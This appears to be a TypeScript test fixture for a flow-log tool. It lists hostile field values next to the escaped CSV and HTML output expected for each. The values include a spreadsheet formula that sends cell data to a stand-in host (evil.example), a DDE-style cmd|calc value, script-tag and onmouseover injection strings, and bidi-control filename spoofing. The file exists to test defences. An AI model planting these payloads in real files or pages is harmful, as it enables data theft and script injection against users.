// Values a flow-log field could carry that would break a CSV, run as a formula, or inject markup,
// each with the CSV cell and the HTML text expected for it, written out by hand.
import type { ResultDocument } from '../../src/engines/engine.js';

export interface HostileValue {
  readonly value: string;
  readonly csv: string;
  /** As the page's HTML holds it: escaped, bidi controls named. */
  readonly html: string;
}

/** What a person reads on the page: the HTML's text, where the parser turns a CR into a line feed. */
export function shownText(h: HostileValue): string {
  return h.html
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&')
    .replace(/\r\n?/g, '\n');
}

export const HOSTILE: readonly HostileValue[] = [
  { value: 'eni-plain', csv: 'eni-plain', html: 'eni-plain' },
  { value: 'a,b,c', csv: 'a,b,c', html: 'a,b,c' },
  { value: 'say "hi"', csv: 'say "hi"', html: 'say &quot;hi&quot;' },
  { value: 'line one\nline two', csv: 'line one\nline two', html: 'line one\nline two' },
  { value: '<script>window.pwned = 1</script>', csv: '<script>window.pwned = 1</script>', html: '&lt;script&gt;window.pwned = 1&lt;/script&gt;' },
  {
    value: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    csv: '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    html: '=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)',
  },
  { value: '+1+2', csv: "'+1+2", html: '+1+2' },
  { value: '-2+3', csv: "'-2+3", html: '-2+3' },
  { value: '@SUM(A1:A9)', csv: "'@SUM(A1:A9)", html: '@SUM(A1:A9)' },
  { value: '\t=1', csv: "'\t=1", html: '\t=1' },
  { value: '\r=1', csv: "'\r=1", html: '\r=1' },
  { value: '\u202Eevil.exe', csv: '\u202Eevil.exe', html: '⟨U+202E⟩evil.exe' },
  { value: '\u202E=cmd|calc', csv: "'\u202E=cmd|calc", html: '⟨U+202E⟩=cmd|calc' },
  { value: 'mark\u200Fed \u2067isolate\u2069', csv: 'mark\u200Fed \u2067isolate\u2069', html: 'mark⟨U+200F⟩ed ⟨U+2067⟩isolate⟨U+2069⟩' },
  { value: ' =1', csv: "' =1", html: ' =1' },
  { value: '\u061C=1', csv: "'\u061C=1", html: '⟨U+061C⟩=1' },
  { value: '\u2060\u2064=2', csv: "'\u2060\u2064=2", html: '⟨U+2060⟩⟨U+2064⟩=2' },
  { value: 'a\u2061b\u2062c\u2063d', csv: 'a\u2061b\u2062c\u2063d', html: 'a⟨U+2061⟩b⟨U+2062⟩c⟨U+2063⟩d' },
  {
    value: '<b>bold</b> & "quoted" \'single\'',
    csv: '<b>bold</b> & "quoted" \'single\'',
    html: '&lt;b&gt;bold&lt;/b&gt; &amp; &quot;quoted&quot; &#39;single&#39;',
  },
  { value: '" onmouseover="alert(1)', csv: '" onmouseover="alert(1)', html: '&quot; onmouseover=&quot;alert(1)' },
];

/** A result whose label column holds every hostile value, with a bigint value and a signed number each. */
export function hostileDocument(): ResultDocument {
  return {
    query: 'eni-bytes',
    params: { start: '2026-10-31T00:00:00Z', end: '2026-11-01T00:00:00Z', limit: 25 },
    columns: [
      { name: 'label', type: 'varchar' },
      { name: 'bytes', type: 'bigint' },
      { name: 'delta', type: 'bigint' },
    ],
    rows: HOSTILE.map((h, i) => ({ label: h.value, bytes: (HOSTILE.length - i) * 1000, delta: i - 5 })),
    stats: { engine: 'local', rowsReturned: HOSTILE.length, elapsedMs: 1, filesRead: 1, bytesRead: 100 },
  };
}
